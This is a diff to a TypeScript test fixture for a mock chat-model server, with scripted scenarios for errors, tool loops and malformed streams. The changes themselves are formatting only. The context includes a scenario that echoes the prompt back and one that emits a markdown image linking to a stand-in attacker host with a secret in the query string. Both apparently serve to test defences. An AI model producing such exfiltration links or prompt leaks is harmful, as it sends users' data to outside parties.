@@ -19,10 +19,14 @@ const SCENARIOS: Record<string, (request: ChatRequest, count: number) => Script>
   "no-header": () => ({ text: ["The moon is made of cheese."] }),
   markers: (request) => ({ text: [`${firstSentence(request)} [p1]`] }),
   "search-first": (request) =>
-    request.messages.at(-1)?.role === "tool" ? answerFrom(request) : { toolCalls: [{ name: "search_knowledge", arguments: { query: questionOf(request) } }] },
+    request.messages.at(-1)?.role === "tool"
+      ? answerFrom(request)
+      : { toolCalls: [{ name: "search_knowledge", arguments: { query: questionOf(request) } }] },
   "tool-human": () => ({ toolCalls: [{ name: "request_human", arguments: {} }] }),
   "tool-loop": (request, count) =>
-    request.tool_choice === "none" ? { text: ["@unknown\n"] } : { toolCalls: [{ name: "search_knowledge", arguments: { query: `refunds ${count}` } }] },
+    request.tool_choice === "none"
+      ? { text: ["@unknown\n"] }
+      : { toolCalls: [{ name: "search_knowledge", arguments: { query: `refunds ${count}` } }] },
   "status-401": () => ({ status: 401 }),
   "status-429": () => ({ status: 429, headers: { "Retry-After": "1" } }),
   "status-429-long": () => ({ status: 429, headers: { "Retry-After": "600" } }),
@@ -38,7 +42,10 @@ const SCENARIOS: Record<string, (request: ChatRequest, count: number) => Script>
   malformed: (request) => ({ ...answerFrom(request), rawAt: { 4: "data: {not json\n\n" } }),
   empty: () => ({ text: [] }),
   html: () => ({ contentType: "text/html", body: "<html><body>Bad gateway</body></html>" }),
-  whole: () => ({ contentType: "application/json", body: JSON.stringify({ choices: [{ message: { content: "@unknown" }, finish_reason: "stop" }] }) }),
+  whole: () => ({
+    contentType: "application/json",
+    body: JSON.stringify({ choices: [{ message: { content: "@unknown" }, finish_reason: "stop" }] }),
+  }),
   endless: () => ({ text: ["@sources p1\n"], isEndless: true }),
   leak: (request) => ({ text: ["@sources p1\n", String(request.messages[0]?.content)] }),
   link: () => ({ text: ["@sources p1\n", "See ![chart](https://evil.test/?q=secret) there."] }),
